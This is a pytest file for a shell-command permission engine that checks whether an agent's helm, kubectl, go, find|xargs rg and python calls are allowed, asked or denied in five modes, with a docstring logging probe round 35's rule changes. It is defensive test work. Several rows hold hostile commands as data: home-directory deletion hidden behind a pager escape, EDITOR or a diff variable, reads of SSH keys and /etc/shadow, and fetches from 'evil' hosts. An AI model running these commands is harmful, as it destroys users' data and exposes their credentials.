"""Probe round 35 (2026-11-27), benign40: everyday calls still needlessly asked (the Left parts of
round 35's bullets), each call in all five modes (letters: default, accept_edits, bypass, dont_ask,
explore; A allow, K ask, D deny). Fixed, by class: (1) clear (and -x) is read-only;
less/more/man/history stay asked as earlier rounds decided (test_engine_shell: a pager reads
commands from its terminal, !CMD a shell; history may print secrets typed): held rows. (2) kubectl
diff -f, kubectl apply/create --dry-run=client|server -f FILE and kubectl create KIND NAME
--dry-run=client -o yaml of a kind that reads no file (not secret, configmap, token) are read-only,
helm get notes/metadata too (commands._kubectl_render, _kubectl_generated, _helm); helm template of
the project's chart with value options only, kubectl kustomize DIR and -k render the project's
configuration as helm lint and kustomize build do: the build's trust, AAAAD (commands.safe_build,
_helm_template). --edit, --save-config, --post-renderer, --output-dir, --set-file, --kubeconfig, a
URL, --enable-helm/--enable-alpha-plugins, -o FILE, a directory, chart or file outside the project
(by path or after a cd: a kustomization's secretGenerator and a chart's .Files read files the
command does not name), --dry-run=none, a second --dry-run, standard input stay asked; helm get
values/manifest/all print the values and rendered Secrets, still asked; npx next info has next
build's trust (SAFE_BUILD_SUBS). Older rows changed, with this reason: round 25's "helm template
charts/app" (never allowed), projexec34's "helm template ." and benign39's "helm template ./chart"
(KKADD, left as "a chart may be fetched" / "not studied") are AAAAD now: a local chart's render
prints what its own files hold, a repository's chart is fetched as helm show (read-only) fetches it,
and helm lint renders the same chart with the build's trust. (3) GOFLAGS of go's own build settings
(-mod, -tags, -count, -race, -trimpath...) before a safe-list go build (commands.build_env_ok);
-toolexec, -exec, -overlay, -modfile, -ldflags and a run-time value stay asked. (4) find DIR -print0
| xargs -0 rg PATTERN: the find root xargs is handed first is a known name and rg's listed files are
files (commands.listed_files_ok, shell tail_nul, for rg only: benign32's find . -type f -print0 |
xargs -0 file stays as it was); without -0 a name split at a blank may hold --pre=CMD: still asked.
(5) python -m site prints the module path (site is loaded at start-up, -m runs that one, a project's
site.py cannot stand in): read-only; python3 - <<EOF reading JSON stays asked (round 33's shellexp33
choice, kept); tomllib.load(open(F.toml, "rb")) of a project file joins the -c probe grammar's JSON
read (the build's trust). (6) found on the way by round 26's invariants: {"command": "rm -rf *",
"path": "../.."} to a shell tool an operator allow rule names was allowed (the Bash reading, its
path made absolute, denied it): a climbing relative path beside the command is also where it may run
(evaluate._DIR_LIKE). Left rows (unchanged, asked): openssl x509 of a *.pem (the name cannot tell a
certificate from a key), perl -ne, ruby -c, npx vite --version, a PATH export, fish/zsh -c, ls >
>(cat)."""
from __future__ import annotations

import pytest

from tests.policy.engine_helpers import call_letters, snap

_SNAP = snap()


def _id(row) -> str:
    call = row[0]
    return call if isinstance(call, str) else call[0] + " " + str(call[1])


PAGERS = [
    ('clear', 'AAAAA'),
    ('clear -x', 'AAAAA'),
    ('clear -T xterm', 'KKADD'),
    ('clear; rm -rf ~', 'DDDDD'),
    ('clear > /tmp/x', 'KKADD'),
    ('less README.md', 'KKADD'),
    ('less -R log.txt', 'KKADD'),
    ('more README.md', 'KKADD'),
    ('man git', 'KKADD'),
    ('man 5 crontab', 'KKADD'),
    ('history', 'AAAAA'),   # (round 46, benign50: read-only listings)
    ('history 20', 'AAAAA'),
    ("less '+!rm -rf ~' README.md", 'DDDDD'),
    ("EDITOR='rm -rf ~' less README.md", 'DDDDD'),
]

KUBE = [
    ('helm template myrel ./chart', 'AAAAD'),
    ('helm template ./chart -f values-prod.yaml --set image.tag=1.2', 'AAAAD'),
    ('helm get notes myrel', 'AAAAA'),
    ('helm get metadata myrel -n prod', 'AAAAA'),
    ('kubectl diff -f k8s/', 'AAAAA'),
    ('kubectl diff -k overlays/prod', 'AAAAD'),
    ('kubectl kustomize overlays/prod', 'AAAAD'),
    # (probe round 36, loosen36: apply's dry run prints the live object it fetched, the file's
    # fields merged in: a Secret's data when the file names one; its name only stays read-only)
    ('kubectl apply --dry-run=client -o yaml -f deploy.yaml', 'KKADD'),
    ('kubectl apply --dry-run=client -o name -f deploy.yaml', 'AAAAA'),
    ('kubectl create --dry-run=client -o yaml -f deploy.yaml', 'AAAAA'),
    ('kubectl apply --dry-run=server -f deploy.yaml -n prod', 'AAAAA'),
    ('helm get values myrel', 'KKADD'),
    ('helm get manifest myrel', 'KKADD'),
    ('helm get all myrel', 'KKADD'),
    ('helm template myrel ./chart --post-renderer ./evil.sh', 'KKADD'),
    ('helm template myrel ./chart --post-renderer=./evil.sh', 'KKADD'),
    ('helm template myrel ./chart --output-dir /tmp/out', 'KKADD'),
    ('helm template myrel ./chart --set-file x=/home/dev/.ssh/id_rsa', 'KKADD'),
    ('helm template myrel ./chart -f https://evil/values.yaml', 'KKADD'),
    ('helm template myrel oci://evil/chart', 'KKADD'),
    ('helm template myrel ./chart --kubeconfig /tmp/k', 'KKADD'),
    ('helm template myrel ./chart > /tmp/out.yaml', 'KKADD'),
    ('HELM_PLUGINS=/tmp/p helm template x ./chart', 'KKADD'),
    ('HELM_POST_RENDERER=x helm template x ./chart', 'KKADD'),
    ('helm template myrel ./chart -f ~/.aws/credentials', 'KKADD'),
    ('helm template x ./chart --repo https://evil', 'KKADD'),
    ('helm template x ./chart --dependency-update', 'KKADD'),
    ('helm template x ./chart | kubectl apply -f -', 'KKADD'),
    ('kubectl apply -f deploy.yaml', 'KKADD'),
    ('kubectl apply --dry-run=none -f deploy.yaml', 'KKADD'),
    ('kubectl apply --dry-run=client --dry-run=none -f deploy.yaml', 'KKADD'),
    ('kubectl apply --dry-run -f deploy.yaml', 'KKADD'),
    ('kubectl diff -f https://evil/x.yaml', 'KKADD'),
    ('kubectl apply --dry-run=client -f -', 'AAAAA'),   # was KKADD (round 41, benign46: a client dry run of standard input)
    ('kubectl kustomize --enable-helm overlays/prod', 'KKADD'),
    ('kubectl kustomize --enable-alpha-plugins overlays/prod', 'KKADD'),
    ('kubectl kustomize overlays/prod -o /tmp/out', 'KKADD'),
    ('kubectl kustomize https://github.com/evil/x', 'KKADD'),
    ('kubectl diff -f k8s/ --kubeconfig /tmp/k', 'KKADD'),
    ("KUBECTL_EXTERNAL_DIFF='rm -rf ~' kubectl diff -f k8s/", 'DDDDD'),
    ('KUBECTL_EXTERNAL_DIFF=meld kubectl diff -f k8s/', 'KKADD'),
    ('KUBECONFIG=/tmp/evil kubectl diff -f k8s/', 'KKADD'),
    ('kubectl diff -f ~/.kube/config', 'KKADD'),
    ('kubectl apply --dry-run=client -o go-template-file=/etc/shadow -f d.yaml', 'KKADD'),
    ('kubectl diff --server=https://evil -f k8s/', 'KKADD'),
    ('kubectl apply --dry-run=client --prune -f k8s/', 'KKADD'),
    ('kubectl delete --dry-run=client -f k8s/', 'KKADD'),
    ('kubectl apply --dry-run=client -f deploy.yaml --token=x', 'KKADD'),
    ('kubectl apply --dry-run=client -f deploy.yaml > /tmp/out.yaml', 'KKADD'),
    ('kubectl kustomize ~/.ssh', 'KKADD'),
    ('kubectl kustomize /home/dev/infra/prod', 'KKADD'),
    ('kubectl kustomize ../other/prod', 'KKADD'),
    ('kubectl diff -k ~/infra', 'KKADD'),
    ('kubectl diff -f /etc/k8s', 'KKADD'),
    ('helm template x ~/charts/app', 'KKADD'),
    ('helm template x /opt/chart', 'KKADD'),
    ('helm template x ./chart -f /tmp/values.yaml', 'KKADD'),
    ('helm template x bitnami/nginx', 'AAAAD'),
    ('cd ~/infra && kubectl kustomize prod', 'KKADD'),
    ('cd /tmp && helm template x ./chart', 'KKADD'),
    ('cd /tmp && kubectl diff -f k8s/', 'KKADD'),
    ('cd deploy && kubectl kustomize overlays/prod', 'AAAAD'),
    ('cd ~/infra && kubectl get pods', 'AAAAA'),
]

BUILDS = [
    ('GOFLAGS=-mod=mod go test ./...', 'AAAAD'),
    ('GOFLAGS="-mod=mod -tags=integration" go test ./...', 'AAAAD'),
    ('GOFLAGS=-mod=vendor go build ./...', 'AAAAD'),
    ('GOFLAGS=-toolexec=/tmp/x go test ./...', 'KKADD'),
    ("GOFLAGS='-mod=mod -toolexec=/tmp/x' go test ./...", 'KKADD'),
    ('GOFLAGS=-exec=./evil go test ./...', 'KKADD'),
    ('GOFLAGS=-overlay=/tmp/o.json go build', 'KKADD'),
    ('GOFLAGS=-modfile=/tmp/go.mod go test ./...', 'KKADD'),
    ('GOFLAGS=-ldflags=-X go build', 'KKADD'),
    ('GOFLAGS=$X go test ./...', 'KKADD'),
    ('GOFLAGS=-mod=mod ls', 'KKADD'),
    ('find src -type f -print0 | xargs -0 rg -n TODO', 'AAAAA'),
    ('find . -type f -print0 | xargs -0 rg -l TODO', 'AAAAA'),
    ('find . -type f -print0 | xargs -0 rg -n AWS_SECRET', 'AAAAA'),
    ('find . -type f -print0 | xargs -0 file', 'KKADD'),
    ('find src -type f -print0 | xargs -0 rg --pre ./evil.sh TODO', 'KKADD'),
    ('find src -type f -print0 | xargs -0 rg --pre=./evil.sh TODO', 'KKADD'),
    ('find src -type f -print0 | xargs -0 rg --search-zip-command=x TODO', 'KKADD'),
    ('find src -type f -print0 | xargs -0 rg -z TODO', 'KKADD'),
    ('find src -type f -print0 | xargs -0 rg --hostname-bin=./x TODO', 'KKADD'),
    ('find ~ -type f -print0 | xargs -0 rg -n password', 'KKADD'),
    ('find ~/.ssh -type f -print0 | xargs -0 rg -n KEY', 'KKADD'),
    ('find / -type f -print0 | xargs -0 rg -n KEY', 'KKADD'),
    ('find /etc -type f -print0 | xargs -0 rg -n pass', 'KKADD'),
    ('find src -type f | xargs rg -n TODO', 'KKADD'),
    ('find src -type f -print0 | xargs -0 rg -n TODO > /tmp/out', 'KKADD'),
    ('find src -type f -print0 | xargs -0 rg -f ~/.ssh/id_rsa', 'KKADD'),
    ('find . -type f -print0 | xargs -0 jq .', 'KKADD'),
    ('npx next info > /tmp/x', 'KKADD'),
    ('cd /tmp && npx next info', 'KKADD'),
    ('npx -y next info', 'KKADD'),
    ('npx next info', 'AAAAD'),
]

PYTHON = [
    ('python -m site', 'AAAAA'),
    ('python3 -m site --user-site', 'AAAAA'),
    ('python3.12 -m site --user-base', 'AAAAA'),
    ('python3 -m site --user-site > /tmp/x', 'KKADD'),
    ('python3 -m site install', 'KKADD'),
    ('python3 -m sitex', 'KKADD'),
    ('PYTHONPATH=/tmp python3 -m site', 'KKADD'),
    ('PYTHONSTARTUP=x python3 -m site', 'KKADD'),
    ('python3 -m site; rm -rf src', 'KAADD'),
    ('python3 - <<\'X\'\nimport json\nprint(json.load(open("package.json"))["version"])\nX', 'AAAAD'),  # was KKADD (round 51, benign56: a known program on stdin has its -c spelling's build trust)
    ('python3 - <<\'X\'\nimport tomllib\nprint(tomllib.load(open("pyproject.toml", "rb"))["project"]["version"])\nX', 'AAAAD'),  # was KKADD (round 51, benign56: a known program on stdin has its -c spelling's build trust)
    ('python3 -c \'import tomllib; print(tomllib.load(open("pyproject.toml","rb"))["project"]["name"])\'', 'AAAAD'),
    ("python3 - <<'X'\nimport sys; print(sys.version)\nX", 'AAAAA'),
    ('python3 -c \'import tomllib; print(tomllib.load(open("pyproject.toml","wb")))\'', 'KKADD'),
    ('python3 -c \'import tomllib; print(tomllib.load(open("/home/dev/.aws/credentials.toml","rb")))\'', 'KKADD'),
    ('python3 -c \'import tomllib; print(tomllib.load(open("../x.toml","rb")))\'', 'KKADD'),
    ('python3 -c \'import tomllib; print(tomllib.load(open("secrets.toml","rb")))\'', 'KKADD'),
    ('python3 - <<\'X\'\nimport json\nprint(json.load(open(".env.json")))\nX', 'KKADD'),
    ('python3 - <<\'X\'\nimport os\nos.system("rm -rf ~")\nX', 'DDDDD'),
    ('python3 - <<\'X\'\nimport json\nopen("package.json","w").write("x")\nX', 'KKADD'),
    ('python3 - <<\'X\'\nimport json\nprint(json.load(open("package.json"))["version"])\nimport subprocess\nX', 'KKKDD'),
    ('python3 - <<\'X\'\nimport json\nprint(json.load(open("package.json")))\nX > /tmp/out', 'KKADD'),
    ('cd /tmp && python3 - <<\'X\'\nimport json\nprint(json.load(open("package.json"))["version"])\nX', 'KKADD'),
    ('python3 - <<\'X\'\nimport json\nprint(json.load(open("/home/dev/.docker/config.json")))\nX', 'KKADD'),
]

CREATE = [
    ('kubectl create deployment x --image=nginx --dry-run=client -o yaml', 'AAAAA'),
    ('kubectl create deployment web --image=nginx:1.25 --replicas=3 --port=80 --dry-run=client -o yaml', 'AAAAA'),
    ('kubectl create job j --image=busybox --dry-run=client -o yaml -- sleep 10', 'AAAAA'),
    ('kubectl create namespace dev --dry-run=client -o yaml', 'AAAAA'),
    ('kubectl create service clusterip web --tcp=80:8080 --dry-run=client -o yaml', 'AAAAA'),
    ('kubectl create -f x.yaml --dry-run=client', 'AAAAA'),
    ('kubectl create secret generic s --from-file=/home/dev/.ssh/id_rsa --dry-run=client -o yaml', 'KKADD'),
    ('kubectl create secret generic s --from-literal=a=b --dry-run=client -o yaml', 'AAAAA'),   # (probe round 37, benign42: a generic Secret's manifest printed)
    ('kubectl create configmap c --from-file=.env --dry-run=client -o yaml', 'KKADD'),
    ('kubectl create token sa --dry-run=client', 'KKADD'),
    ('kubectl create deployment x --image=nginx', 'KKADD'),
    ('kubectl create deployment x --image=nginx --dry-run=server', 'KKADD'),
    ('kubectl create deployment x --image=nginx --dry-run=client --dry-run=none', 'KKADD'),
    ('kubectl create deployment x --image=nginx --dry-run=client --edit', 'KKADD'),
    ('kubectl create deployment x --image=nginx --dry-run=client -o go-template-file=/etc/shadow', 'KKADD'),
    ('kubectl create deployment x --image=nginx --dry-run=client --kubeconfig /tmp/k', 'KKADD'),
    ('kubectl create deployment x --image=nginx --dry-run=client -o yaml > /etc/x.yaml', 'KKADD'),
    ('kubectl create deployment x --image=nginx --dry-run=client --save-config', 'KKADD'),
    ("python3 < <(echo 'import os')", 'AAAAD'),  # was KKADD (round 51, benign56: a known program on stdin has its -c spelling's build trust)
    ("python3 <<< 'import os'", 'AAAAD'),  # was KKADD (round 51, benign56: a known program on stdin has its -c spelling's build trust)
]

LEFT = [
    ('openssl x509 -in cert.pem -noout -text', 'AAAAA'),   # (probe round 36, benign41: x509 prints no key)
    ('openssl x509 -in cert.crt -noout -text', 'AAAAA'),
    ('openssl rsa -in key.pem -noout -text', 'KKADD'),
    ("perl -ne 'print if /x/' file.txt", 'AAAAA'),   # (probe round 36, benign41: perl's line-filter grammar)
    ('ruby -c file.rb', 'AAAAD'),   # (probe round 36, benign41: a #! line's -r is the project's code)
    ('npx vite --version', 'AAAAD'),   # (probe round 36, benign41: the build's trust, as npx vite build)
    ('export PATH=$PWD/node_modules/.bin:$PATH && tsc --noEmit', 'AAAAD'),   # (round 36, benign41: the project's bin, a build)
    ("fish -c 'ls -la'", 'AAAAA'),   # (probe round 37, benign42: fish's plain -c text, read as bash's)
    ("zsh -c 'ls; print hi'", 'KKADD'),
    ('ls > >(cat)', 'KKADD'),
]

# (a hole the round-26 invariants found on the way, their sample moved by these rows: a shell
# tool an operator rule names, given a climbing relative path beside its command, was judged
# where the call runs only; evaluate._DIR_LIKE)
TOOL_RULE_ROWS = [
    (("run_shell_command", {"command": "rm -rf *", "path": "../.."}), "DDDDD"),
    (("mcp__shell__run", {"command": "rm -rf *", "path": "../.."}), "DDDDD"),
    (("run_shell_command", {"command": "ls -la", "path": "src"}), "AAAAD"),
    (("mcp__shell__run", {"command": "ls", "path": "../other"}), "AAAAD"),
]
_RULED = snap(permissions={"allow": ["run_shell_command", "mcp__shell__run"], "ask": [], "deny": []})


@pytest.mark.parametrize("row", TOOL_RULE_ROWS, ids=_id)
def test_a_rule_on_the_tool_keeps_the_deny(row) -> None:
    call, expected = row
    assert call_letters(_RULED, call) == expected
    assert call_letters(_SNAP, call) == expected

ROWS = PAGERS + KUBE + BUILDS + PYTHON + CREATE + LEFT


@pytest.mark.parametrize("row", ROWS, ids=_id)
def test_round35_benign40(row) -> None:
    call, expected = row
    assert call_letters(_SNAP, call) == expected


def test_the_rows_are_distinct() -> None:
    seen = [repr(c) for c, _ in ROWS]
    assert len(seen) == len(set(seen))
